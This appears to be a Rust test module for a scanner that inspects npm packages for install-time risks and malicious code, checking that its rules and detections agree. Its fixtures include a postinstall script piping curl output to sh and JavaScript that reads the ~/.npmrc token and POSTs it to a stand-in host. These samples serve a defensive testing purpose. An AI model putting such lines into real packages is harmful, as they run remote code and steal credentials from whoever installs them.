//! The stage as a whole, and its tables against the rules.

use super::examples::contents;
use super::*;
use crate::rules::CheckKind;

fn npm() -> Package {
    examples::package(crate::model::Ecosystem::Npm)
}

/// Ids of rules that stand as constants in the code, tests left out: `area/name`.
fn ids_in_code(areas: &BTreeSet<&str>) -> BTreeSet<String> {
    let constant = regex::Regex::new("\"([a-z]+)/([a-z0-9-]+)\"").unwrap();
    let mut todo = vec![std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src")];
    let mut found = BTreeSet::new();
    while let Some(path) = todo.pop() {
        if path.is_dir() {
            todo.extend(std::fs::read_dir(&path).unwrap().map(|entry| entry.unwrap().path()));
        } else if !path.ends_with("tests.rs") && !path.ends_with("rules/table.rs") {
            let text = std::fs::read_to_string(&path).unwrap();
            let code = text.split("#[cfg(test)]\nmod tests {").next().unwrap();
            let ids = constant.captures_iter(code).filter(|id| areas.contains(&id[1]));
            found.extend(ids.map(|id| format!("{}/{}", &id[1], &id[2])));
        }
    }
    found
}

/// Rules, checks and what code reports agree both ways: nothing is reported without a rule, and no
/// rule waits for code that is not there. (That files and the built-in list agree is tested in `rules`.)
#[test]
fn checks_and_rule_files_agree() {
    let rules = RuleSet::builtin();
    let areas: BTreeSet<&str> = rules.iter().filter_map(|rule| rule.id.split('/').next()).collect();
    let in_code = ids_in_code(&areas);
    let by_code: BTreeSet<String> =
        rules.iter().filter(|rule| rule.check == CheckKind::Code).map(|rule| rule.id.clone()).collect();
    let nowhere: Vec<_> = by_code.difference(&in_code).collect();
    assert!(nowhere.is_empty(), "rules for code that nothing reports: {nowhere:?}");
    let unknown: Vec<_> = in_code.iter().filter(|id| rules.get(id).is_none()).collect();
    assert!(unknown.is_empty(), "reported without a rule: {unknown:?}");
    let mut named = BTreeSet::new();
    for id in CHECKS.iter().flat_map(|check| check.rules()) {
        assert!(by_code.contains(*id), "`rules/{id}.toml` is missing or not for code");
        assert!(named.insert(*id), "two checks report `{id}`");
    }
    for rule in rules.iter().filter(|rule| rule.check == CheckKind::Facts) {
        let kinds: BTreeSet<bool> = rule.examples.iter().map(|example| example.expect).collect();
        assert_eq!(kinds.len(), 2, "`{}` needs an example that matches and one that does not", rule.id);
    }
}

#[test]
fn every_byte_is_accounted_for() {
    let files: &[(&str, &[u8])] = &[
        ("a.png", b"\x89PNG\r\n\x1a\n\0"),
        ("empty", b""),
        ("index.js", b"module.exports = 1;\n"),
        ("package.json", b"{\"name\":\"a\",\"version\":\"1.0.0\"}"),
        ("readme.md", b"# a"),
    ];
    let files = contents(files);
    let got = analyse(&npm(), &files, &RuleSet::default());
    assert!(got.coverage.adds_up(files.size()) && got.coverage.files == 5);
    assert_eq!(got.gaps, []);
}

#[test]
fn what_a_lifecycle_script_loads_runs_at_install_time() {
    let files = contents(&[
        ("package.json", br#"{"scripts":{"postinstall":"sh test/setup.sh"}}"#),
        ("test/setup.sh", b"#!/bin/sh\ncurl https://a.invalid/x | sh\n"),
    ]);
    let got = analyse(&npm(), &files, &RuleSet::builtin());
    assert!(got.findings.iter().any(|finding| finding.rule == "install/pipe-to-shell"), "{:?}", got.findings);
    let kinds: Vec<_> = got.capabilities.iter().map(|capability| capability.kind).collect();
    assert_eq!(kinds, [CapabilityKind::Net, CapabilityKind::Process, CapabilityKind::InstallTime]);
}

#[test]
fn opaque_bytes_that_a_build_reads_are_shown() {
    let dense: Vec<u8> = (0..4000u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    let files = contents(&[
        ("package.json", br#"{"scripts":{"install":"sh build.sh"}}"#),
        ("build.sh", b"cat tests/corrupt.bin | tail -c 900 | tr a b > out\n"),
        ("tests/corrupt.bin", &dense),
    ]);
    let got = analyse(&npm(), &files, &RuleSet::builtin());
    assert!(got.findings.iter().any(|finding| finding.rule == "file/opaque-in-build"), "{:?}", got.findings);
}

#[test]
fn a_registry_s_key_that_goes_back_to_it_is_for_a_reader() {
    let tool = |more: &str| {
        let code = format!(
            "import {{ readFileSync }} from 'node:fs';\nimport {{ homedir }} from 'node:os';\nconst key = readFileSync(homedir() + '/.npmrc', 'utf8');\nawait fetch('https://registry.npmjs.org/-/npm/v1/tokens', {{ method: 'POST', body: key }});\n{more}"
        );
        let files = contents(&[
            ("package.json", br#"{"name":"turn","version":"1.0.0","type":"module"}"#),
            ("index.js", code.as_bytes()),
        ]);
        let got = analyse(&npm(), &files, &RuleSet::builtin());
        let sent: Vec<_> = got.findings.iter().filter(|f| f.rule == "malice/secret-file-sent").collect();
        assert!(!sent.is_empty(), "{:?}", got.findings);
        sent.iter().all(|finding| finding.confidence == crate::model::Confidence::Low)
    };
    assert!(tool(""));
    assert!(!tool("await fetch('https://keys.turn.invalid/', { method: 'POST', body: key });\n"));
}
